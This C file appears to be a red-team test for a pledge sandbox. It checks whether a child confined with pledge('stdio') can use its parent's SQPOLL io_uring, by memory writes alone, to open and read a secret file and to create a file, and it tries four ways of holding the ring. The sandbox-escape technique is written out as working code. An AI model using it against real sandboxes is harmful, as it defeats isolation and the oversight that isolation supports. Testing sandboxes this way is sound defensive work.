/* SPDX-License-Identifier: ISC */
/*
 * iouring_sqpoll.c: a pledged child submits through its parent's polling
 * io_uring by writing shared memory alone (issue 46, nothing inherited
 * widens).
 *
 * A ring made with IORING_SETUP_SQPOLL has a kernel thread that takes
 * entries from the submission queue, shared memory, with no system call
 * from the submitter, and runs them as the ring's maker: no filter and
 * no Landlock layer of the child sees them.  pledge(3) promises EBUSY
 * for a polling ring, but looks only at the process's own threads.  The
 * parent makes the ring and forks; the child, after pledge("stdio"),
 * writes entries: openat of the secret and a read of it into shared
 * memory, and openat with O_CREAT.  The parent looks for the secret's
 * bytes in the shared buffer and for the file.  pledge() refusing
 * (EBUSY) holds.
 *
 * The child holds the ring three ways, each found by another look of
 * lib/acquired.c: its descriptor and its memory (as forked); its memory
 * alone (the descriptor closed: only /proc/self/maps shows it); its
 * descriptor alone, the memory unmapped and mapped again after pledge()
 * (an exec'd image's case), among the first numbers (found by poll(2))
 * or moved past 1024 (only a listing of /proc/self/fd finds it).
 */
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <linux/io_uring.h>

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "redteam.h"

struct ring {
	int			 fd;
	unsigned char		*sq, *cq;
	struct io_uring_sqe	*sqes;
	struct io_uring_params	 p;
};

/* Shared with the child and at the same address in the ring's maker. */
struct page {
	char	 secret[PATH_MAX];
	char	 made[PATH_MAX];
	char	 buf[4096];
};

static struct ring ring;
static struct page *pg;

enum hold {
	HOLD_BOTH,		/* descriptor and memory */
	HOLD_MEMORY,		/* memory, the descriptor closed */
	HOLD_FD,		/* the descriptor, no memory */
	HOLD_FD_HIGH,		/* a descriptor past 1024, no memory */
};

#define HIGH_FD	1500

#define U32(base, off)	((unsigned *)((base) + (off)))

static void	ring_map(void);

static int
ring_setup(void)
{
	struct io_uring_params *p = &ring.p;

	memset(p, 0, sizeof(*p));
	p->flags = IORING_SETUP_SQPOLL;
	p->sq_thread_idle = 10000;	/* ms the poller keeps polling */
	if ((ring.fd = (int)syscall(SYS_io_uring_setup, 8, p)) == -1)
		return -1;
	ring_map();
	return 0;
}

static size_t
sq_len(void)
{
	return ring.p.sq_off.array + ring.p.sq_entries * 4;
}

static size_t
cq_len(void)
{
	return ring.p.cq_off.cqes + ring.p.cq_entries *
	    sizeof(struct io_uring_cqe);
}

static size_t
sqes_len(void)
{
	return ring.p.sq_entries * sizeof(struct io_uring_sqe);
}

static void
ring_unmap(void)
{
	munmap(ring.sq, sq_len());
	munmap(ring.cq, cq_len());
	munmap(ring.sqes, sqes_len());
}

static void
ring_map(void)
{
	struct io_uring_params *p = &ring.p;

	ring.sq = mmap(NULL, p->sq_off.array + p->sq_entries * 4,
	    PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring.fd,
	    IORING_OFF_SQ_RING);
	ring.cq = mmap(NULL, p->cq_off.cqes + p->cq_entries *
	    sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE,
	    MAP_SHARED | MAP_POPULATE, ring.fd, IORING_OFF_CQ_RING);
	ring.sqes = mmap(NULL, p->sq_entries * sizeof(struct io_uring_sqe),
	    PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring.fd,
	    IORING_OFF_SQES);
	if (ring.sq == MAP_FAILED || ring.cq == MAP_FAILED ||
	    ring.sqes == MAP_FAILED)
		rt_fatal("io_uring mmap: %s", strerror(errno));
}

/* Queue one entry: memory writes only. */
static void
queue(const struct io_uring_sqe *e)
{
	struct io_uring_params *p = &ring.p;
	unsigned tail = __atomic_load_n(U32(ring.sq, p->sq_off.tail),
	    __ATOMIC_ACQUIRE);
	unsigned idx = tail & *U32(ring.sq, p->sq_off.ring_mask);

	ring.sqes[idx] = *e;
	U32(ring.sq, p->sq_off.array)[idx] = idx;
	__atomic_store_n(U32(ring.sq, p->sq_off.tail), tail + 1,
	    __ATOMIC_RELEASE);
}

/* A completion's result, polled for at most 3 s; -ETIME if none. */
static int
complete(void)
{
	struct io_uring_params *p = &ring.p;
	struct timespec ms = { 0, 1000000 };
	unsigned head;
	int i, res;

	for (i = 0; i < 3000; i++) {
		head = *U32(ring.cq, p->cq_off.head);
		if (head != __atomic_load_n(U32(ring.cq, p->cq_off.tail),
		    __ATOMIC_ACQUIRE)) {
			res = ((struct io_uring_cqe *)(ring.cq +
			    p->cq_off.cqes))[head &
			    *U32(ring.cq, p->cq_off.ring_mask)].res;
			__atomic_store_n(U32(ring.cq, p->cq_off.head),
			    head + 1, __ATOMIC_RELEASE);
			return res;
		}
		nanosleep(&ms, NULL);
	}
	return -ETIME;
}

static int
submit(unsigned char op, int fd, const void *addr, unsigned len,
    int flags)
{
	struct io_uring_sqe e;

	memset(&e, 0, sizeof(e));
	e.opcode = op;
	e.fd = fd;
	e.addr = (uint64_t)(uintptr_t)addr;
	e.len = len;
	e.open_flags = (uint32_t)flags;
	e.user_data = 1;
	queue(&e);
	return complete();
}

/* Keep the poller awake, as the ring's owner using it does. */
static void
wake(void)
{
	if (*U32(ring.sq, ring.p.sq_off.flags) & IORING_SQ_NEED_WAKEUP)
		syscall(SYS_io_uring_enter, ring.fd, 0, 0,
		    IORING_ENTER_SQ_WAKEUP, NULL, 0);
}

struct how {
	int		 tamed;
	enum hold	 hold;
};

static int
attack(void *arg)
{
	const struct how *h = arg;
	int fd;

	if (h->hold == HOLD_MEMORY)
		close(ring.fd);
	if (h->hold == HOLD_FD)
		ring_unmap();
	if (h->hold == HOLD_FD_HIGH) {
		ring_unmap();
		if (dup2(ring.fd, HIGH_FD) == -1)
			rt_fatal("dup2 to %d: %s", HIGH_FD, strerror(errno));
		close(ring.fd);
		ring.fd = HIGH_FD;
	}
	if (h->tamed)
		rt_pledge("stdio", NULL);
	if (h->hold == HOLD_FD || h->hold == HOLD_FD_HIGH)
		ring_map();		/* mmap is stdio's */
	rt_ready();
	rt_await_go();
	/* the descriptor is the ring maker's; the read lands in pg */
	if ((fd = submit(IORING_OP_OPENAT, AT_FDCWD, pg->secret, 0,
	    O_RDONLY)) >= 0)
		submit(IORING_OP_READ, fd, pg->buf, sizeof(pg->buf), 0);
	submit(IORING_OP_OPENAT, AT_FDCWD, pg->made, 0600,
	    O_WRONLY | O_CREAT);
	return 0;
}

static const char *
try(int tamed, enum hold hold, const struct rt_secret *s)
{
	static char what[320];
	struct how h = { tamed, hold };
	struct rt_kid k;
	int read_it, made;

	memset(pg->buf, 0, sizeof(pg->buf));
	unlink(pg->made);
	rt_spawn(&k, attack, &h);
	if (rt_heard(&k) == 0) {
		wake();
		rt_go(&k);
	}
	rt_reap(&k);
	if (rt_exited(k.status, RT_NOPLEDGE)) {
		snprintf(what, sizeof(what), "refused: %s", rt_sh->note);
		return what;
	}
	read_it = rt_secret_in(s, pg->buf, sizeof(pg->buf));
	made = rt_exists(pg->made);
	snprintf(what, sizeof(what), "%s%s%s", read_it ? "read " : "",
	    read_it ? s->label : "", !made ? "" : read_it ?
	    " and created a file" : "created a file");
	return what;
}

static const char *const hold_name[] = {
	[HOLD_BOTH] = "its descriptor and memory",
	[HOLD_MEMORY] = "its memory alone",
	[HOLD_FD] = "its descriptor alone",
	[HOLD_FD_HIGH] = "its descriptor alone, numbered past 1024",
};

/* Can descriptor fd be made (the soft limit raised as far as needed)? */
static int
fds_past(int fd)
{
	struct rlimit rl;

	if (getrlimit(RLIMIT_NOFILE, &rl) == -1 || rl.rlim_max <= (rlim_t)fd)
		return 0;
	if (rl.rlim_cur <= (rlim_t)fd) {
		rl.rlim_cur = (rlim_t)fd + 1;
		if (setrlimit(RLIMIT_NOFILE, &rl) == -1)
			return 0;
	}
	return 1;
}

static void
one_hold(enum hold hold, const struct rt_secret *s)
{
	const char *what;

	if (strstr(try(0, hold, s), "and created") == NULL) {
		rt_na("holding %s, untamed, the ring did not open, read and "
		    "create", hold_name[hold]);
		return;
	}
	what = try(1, hold, s);
	if (strncmp(what, "refused", 7) == 0)
		rt_held("pledge(\"stdio\") holding %s of the parent's polling "
		    "ring: %s", hold_name[hold], what);
	else if (*what != '\0')
		rt_escaped("pledge(\"stdio\") holding %s: through its parent's "
		    "polling io_uring, by memory writes alone, %s",
		    hold_name[hold], what);
	else
		rt_held("pledge(\"stdio\") holding %s: the parent's polling "
		    "ring did nothing for it", hold_name[hold]);
}

int
main(int argc, char **argv)
{
	struct rt_secret s;
	enum hold hold;
	FILE *f;
	int off = 0;

	rt_init(argc, argv);
	if ((f = fopen("/proc/sys/kernel/io_uring_disabled", "re")) != NULL) {
		if (fscanf(f, "%d", &off) != 1)
			off = 0;
		fclose(f);
	}
	if (off == 2 || (off == 1 && !rt_is_root())) {
		rt_na("io_uring (kernel.io_uring_disabled=%d)", off);
		return rt_finish();
	}
	if (ring_setup() == -1) {
		rt_na("a polling io_uring (IORING_SETUP_SQPOLL): %s",
		    strerror(errno));
		return rt_finish();
	}
	pg = mmap(NULL, sizeof(*pg), PROT_READ | PROT_WRITE,
	    MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (pg == MAP_FAILED)
		rt_fatal("mmap");
	rt_secret(&s, NULL);
	snprintf(pg->secret, sizeof(pg->secret), "%s", s.path);
	snprintf(pg->made, sizeof(pg->made), "%s", rt_path("made"));
	for (hold = HOLD_BOTH; hold <= HOLD_FD_HIGH; hold++) {
		if (hold == HOLD_FD_HIGH && !fds_past(HIGH_FD)) {
			rt_na("holding %s: RLIMIT_NOFILE's hard limit is "
			    "below %d", hold_name[hold], HIGH_FD + 1);
			continue;
		}
		one_hold(hold, &s);
	}
	return rt_finish();
}
